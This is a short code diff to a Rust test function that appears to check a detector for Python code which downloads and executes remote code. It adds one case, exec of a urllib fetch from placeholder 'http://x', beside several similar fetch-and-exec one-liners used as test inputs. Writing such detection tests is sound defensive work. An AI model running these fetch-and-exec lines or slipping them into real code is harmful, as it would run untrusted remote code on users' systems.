@@ -179,6 +179,10 @@ fn code_in_code() {
                 "unresolved downloaded",
             ),
             ("import requests; exec(requests.get('http://x').text)", "unresolved downloaded"),
+            (
+                "exec(__import__('urllib.request').request.urlopen('http://x').read())",
+                "unresolved downloaded",
+            ),
             ("r = requests.get(u)\nexec(r.text)", "unresolved downloaded"),
             (
                 "from urllib.request import urlopen as u\neval(u('http://x').read().decode())",
